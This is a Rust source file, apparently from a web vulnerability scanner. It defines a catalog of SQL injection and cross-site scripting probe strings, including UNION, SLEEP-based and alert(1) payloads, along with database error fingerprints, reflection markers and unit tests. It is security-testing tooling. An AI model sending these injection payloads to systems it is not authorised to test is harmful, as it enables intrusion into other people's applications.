//! Fixed payload and fingerprint catalogs.
//!
//! The engine never reads these constants directly; it receives a
//! `PayloadCatalog`, which defaults to the built-in tables below.

use serde::{Deserialize, Serialize};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum PayloadCategory {
    SqlTrue,
    SqlFalse,
    SqlUnion,
    SqlError,
    SqlTime,
    SqlNumericTrue,
    SqlNumericFalse,
    SqlQuote,
    SqlDquote,
    SqlComment,
    XssScript,
    XssImgOnerror,
    XssSvgOnload,
    XssJavascriptUri,
    XssQuoteBreakout,
    XssIframe,
    XssBodyOnload,
    XssMixedCase,
}

impl PayloadCategory {
    pub fn id(self) -> &'static str {
        match self {
            Self::SqlTrue => "sql_true",
            Self::SqlFalse => "sql_false",
            Self::SqlUnion => "sql_union",
            Self::SqlError => "sql_error",
            Self::SqlTime => "sql_time",
            Self::SqlNumericTrue => "sql_numeric_true",
            Self::SqlNumericFalse => "sql_numeric_false",
            Self::SqlQuote => "sql_quote",
            Self::SqlDquote => "sql_dquote",
            Self::SqlComment => "sql_comment",
            Self::XssScript => "xss_script",
            Self::XssImgOnerror => "xss_img_onerror",
            Self::XssSvgOnload => "xss_svg_onload",
            Self::XssJavascriptUri => "xss_javascript_uri",
            Self::XssQuoteBreakout => "xss_quote_breakout",
            Self::XssIframe => "xss_iframe",
            Self::XssBodyOnload => "xss_body_onload",
            Self::XssMixedCase => "xss_mixed_case",
        }
    }

    pub fn is_sql(self) -> bool {
        self.id().starts_with("sql_")
    }
}

impl std::fmt::Display for PayloadCategory {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.pad(self.id())
    }
}

/// A literal string injected into one parameter.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct ProbePayload {
    pub category: PayloadCategory,
    pub value: String,
}

impl ProbePayload {
    pub fn new(category: PayloadCategory, value: impl Into<String>) -> Self {
        Self {
            category,
            value: value.into(),
        }
    }
}

const SQL_PAYLOADS: &[(PayloadCategory, &str)] = &[
    (PayloadCategory::SqlTrue, "' OR '1'='1"),
    (PayloadCategory::SqlFalse, "' OR '1'='2"),
    (PayloadCategory::SqlUnion, "' UNION SELECT NULL,NULL--"),
    (
        PayloadCategory::SqlError,
        "' AND 1=CONVERT(int,(SELECT @@version))--",
    ),
    (PayloadCategory::SqlTime, "' OR SLEEP(5)--"),
    (PayloadCategory::SqlNumericTrue, " OR 1=1"),
    (PayloadCategory::SqlNumericFalse, " OR 1=2"),
    (PayloadCategory::SqlQuote, "'"),
    (PayloadCategory::SqlDquote, "\""),
    (PayloadCategory::SqlComment, "/*"),
];

const XSS_PAYLOADS: &[(PayloadCategory, &str)] = &[
    (PayloadCategory::XssScript, "<script>alert(1)</script>"),
    (PayloadCategory::XssImgOnerror, "<img src=x onerror=alert(1)>"),
    (PayloadCategory::XssSvgOnload, "<svg onload=alert(1)>"),
    (PayloadCategory::XssJavascriptUri, "javascript:alert(1)"),
    (
        PayloadCategory::XssQuoteBreakout,
        "\"><script>alert(1)</script>",
    ),
    (
        PayloadCategory::XssIframe,
        "<iframe src=\"javascript:alert(1)\"></iframe>",
    ),
    (PayloadCategory::XssBodyOnload, "<body onload=alert(1)>"),
    (PayloadCategory::XssMixedCase, "<ScRiPt>alert(1)</sCrIpT>"),
];

/// Database error fingerprints, matched case-insensitively.
const ERROR_SIGNATURES: &[&str] = &[
    "sql syntax",
    "mysql_fetch",
    "mysqli_",
    "warning: mysql",
    "mysqlclient",
    "ORA-",
    "oracle error",
    "unclosed quotation mark",
    "quoted string not properly terminated",
    "microsoft ole db provider for sql server",
    "odbc sql server driver",
    "sqlserver jdbc driver",
    "syntax error at or near",
    "unterminated quoted string",
    "pg_query",
    "PG::SyntaxError",
    "postgresql query failed",
    "SQLite3::",
    "sqlite_error",
    "SQLSTATE[",
    "DB2 SQL error",
];

/// Fragments whose presence in both payload and response counts as a
/// partial reflection.
const REFLECTION_MARKERS: &[&str] = &["<script>", "alert(", "onerror="];

/// Payloads and fingerprints handed to the probe engine.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PayloadCatalog {
    pub sql: Vec<ProbePayload>,
    pub xss: Vec<ProbePayload>,
    pub error_signatures: Vec<String>,
    pub reflection_markers: Vec<String>,
}

impl Default for PayloadCatalog {
    fn default() -> Self {
        let owned = |list: &[&str]| -> Vec<String> { list.iter().map(|s| s.to_string()).collect() };
        Self {
            sql: SQL_PAYLOADS
                .iter()
                .map(|&(c, v)| ProbePayload::new(c, v))
                .collect(),
            xss: XSS_PAYLOADS
                .iter()
                .map(|&(c, v)| ProbePayload::new(c, v))
                .collect(),
            error_signatures: owned(ERROR_SIGNATURES),
            reflection_markers: owned(REFLECTION_MARKERS),
        }
    }
}

impl PayloadCatalog {
    /// Requests issued per probed parameter.
    pub fn probes_per_parameter(&self) -> usize {
        self.sql.len() + self.xss.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::HashSet;

    #[test]
    fn default_catalog_sizes() {
        let catalog = PayloadCatalog::default();
        assert_eq!(catalog.sql.len(), 10);
        assert_eq!(catalog.xss.len(), 8);
        assert_eq!(catalog.probes_per_parameter(), 18);
        assert!(catalog.error_signatures.len() >= 20);
    }

    #[test]
    fn categories_are_unique_and_partitioned() {
        let catalog = PayloadCatalog::default();
        let all: HashSet<PayloadCategory> = catalog
            .sql
            .iter()
            .chain(catalog.xss.iter())
            .map(|p| p.category)
            .collect();
        assert_eq!(all.len(), 18);
        assert!(catalog.sql.iter().all(|p| p.category.is_sql()));
        assert!(catalog.xss.iter().all(|p| !p.category.is_sql()));
    }

    #[test]
    fn sql_catalog_starts_with_boolean_pair() {
        let catalog = PayloadCatalog::default();
        assert_eq!(catalog.sql[0].value, "' OR '1'='1");
        assert_eq!(catalog.sql[1].value, "' OR '1'='2");
        assert!(catalog.sql.iter().any(|p| p.value.contains("SLEEP")));
        assert_eq!(catalog.sql[9].value, "/*");
    }

    #[test]
    fn category_ids_match_serde() {
        let json = serde_json::to_value(PayloadCategory::SqlNumericTrue).unwrap();
        assert_eq!(json, "sql_numeric_true");
        assert_eq!(PayloadCategory::XssMixedCase.to_string(), "xss_mixed_case");
    }
}
